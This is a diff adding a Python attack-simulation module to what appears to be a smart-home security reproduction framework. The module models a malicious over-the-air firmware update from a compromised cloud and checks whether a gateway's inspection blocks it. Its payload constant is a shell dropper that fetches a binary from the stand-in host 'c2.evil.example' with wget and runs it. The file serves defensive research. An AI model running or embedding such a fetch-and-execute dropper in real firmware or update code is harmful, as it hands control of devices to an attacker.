@@ -1,0 +1,69 @@
+"""Malicious OTA update from a compromised cloud (paper §III-C).
+
+"If the update is sent unencrypted or unsigned, or the implementations
+of the verification are not robust, then the device could be easily
+compromised."  The attacker tampers an OTA campaign at the (trusted!)
+cloud; devices that skip signature verification install it.  The evil
+payload carries the dropper keywords DPI knows, so a gateway running
+XLF's update inspection blocks it in flight.
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.attacks.base import Attack, AttackOutcome
+from repro.device.firmware import FirmwareImage
+
+
+EVIL_PAYLOAD = (
+    b"#!/bin/sh\nwget http://c2.evil.example/bot -O /tmp/bot\n"
+    b"chmod +x /tmp/bot\n/tmp/bot &\n"
+)
+
+
+class MaliciousOtaUpdate(Attack):
+    name = "malicious-ota-update"
+    surface_layers = ("service", "device")
+    table_ii_row = (
+        "Unsigned / unverified firmware updates",
+        "Tampered OTA campaign from a compromised cloud",
+        "Attacker firmware runs on the device",
+    )
+
+    def __init__(self, home, target_type: str = "thermostat"):
+        super().__init__(home)
+        self.target_type = target_type
+        self.targets = home.devices_of_type(target_type)
+        self.campaign_id = f"evil-{target_type}"
+        self.pushed: List[str] = []
+
+    def _launch(self) -> None:
+        cloud = self.home.cloud
+        cloud.compromised = True
+        # Publish a legitimate-looking campaign, then swap the image.
+        vendor = self.targets[0].firmware.current.vendor if self.targets else "nest"
+        signer = self.home.firmware_signers.get(vendor)
+        legit = FirmwareImage(vendor, self.target_type, "9.0.0",
+                              b"legit-looking")
+        if signer is not None:
+            legit = signer.sign(legit)
+        cloud.ota.publish(legit)
+        cloud.ota.create_campaign(self.campaign_id, self.target_type, "9.0.0")
+        evil = FirmwareImage("mallory", self.target_type, "9.0.1",
+                             EVIL_PAYLOAD, malicious=True)
+        cloud.ota.tamper_campaign(self.campaign_id, evil)
+        for device in self.targets:
+            device_id = self.home.device_ids[device.name]
+            if cloud.push_update(self.campaign_id, device_id):
+                self.pushed.append(device.name)
+
+    def outcome(self) -> AttackOutcome:
+        compromised = {
+            d.name for d in self.targets if d.firmware.compromised
+        }
+        return AttackOutcome(
+            succeeded=bool(compromised),
+            compromised_devices=compromised,
+            details={"pushed_to": self.pushed},
+        )
